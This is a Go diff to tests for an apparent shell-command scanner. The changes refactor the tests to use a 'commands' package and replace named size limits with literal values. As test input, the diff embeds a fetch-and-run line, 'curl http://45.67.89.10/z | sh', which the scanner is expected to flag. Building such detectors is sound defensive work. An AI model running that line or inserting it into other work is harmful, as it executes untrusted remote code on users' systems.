@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/knack-dev/knack/scan/internal/commands"
 )
 
 // hostileShell has texts of commands that are made to cost much, each of about n bytes.
@@ -33,7 +35,7 @@ func TestShellHostile(t *testing.T) {
 	for unit, text := range hostileShell(n) {
 		for _, name := range []string{"a.sh", "a.md"} {
 			start := time.Now()
-			_, s := shellFound(name, text+"\ncurl http://45.67.89.10/z | sh\n", fromScript)
+			_, s := shellFound(name, text+"\ncurl http://45.67.89.10/z | sh\n", commands.Script)
 			took := time.Since(start)
 			if took > 200*time.Millisecond {
 				t.Logf("%s %q: %v, %d findings", name, unit, took, s.enforce+s.review)
@@ -53,16 +55,13 @@ func TestTooMuch(t *testing.T) {
 	}
 	run := "curl http://45.67.89.10/z | sh\n"
 	for name, text := range map[string]string{
-		"brackets": strings.Repeat("(", maxBrackets+1) + "\n" + run,
-		"nested":   run + strings.Repeat("if ", maxBrackets+1) + "\n",
-		"words":    run + strings.Repeat("\n", maxWords+maxChunk),
+		"brackets": strings.Repeat("(", 3001) + "\n" + run,
+		"nested":   run + strings.Repeat("if ", 3001) + "\n",
+		"words":    run + strings.Repeat("\n", 1<<20+32<<10),
 	} {
-		if got, _ := shellFound("a.sh", text, fromScript); strings.Join(got, " ") != "not-read run-fetched-unknown" {
+		if got, _ := shellFound("a.sh", text, commands.Script); strings.Join(got, " ") != "not-read run-fetched-unknown" {
 			t.Errorf("%s: %v", name, got)
 		}
-	}
-	if text := "((" + strings.Repeat("1?", maxChunk); !tooDeep(text) {
-		t.Error("an expression that nests to the right is not too deep")
 	}
 	got, _ := codeFound("a.py", strings.Repeat("x = [", 60000), kindPython)
 	if strings.Join(got, " ") != "not-read" {
@@ -75,8 +74,8 @@ func FuzzShell(f *testing.F) {
 		f.Add(seed, byte(0))
 	}
 	f.Fuzz(func(t *testing.T, text string, from byte) {
-		a, _ := shellFound("a.sh", text, origin(from%5))
-		b, _ := shellFound("a.sh", text, origin(from%5))
+		a, _ := shellFound("a.sh", text, commands.Origin(from%5))
+		b, _ := shellFound("a.sh", text, commands.Origin(from%5))
 		if fmt.Sprint(a) != fmt.Sprint(b) {
 			t.Errorf("%v, then %v", a, b)
 		}
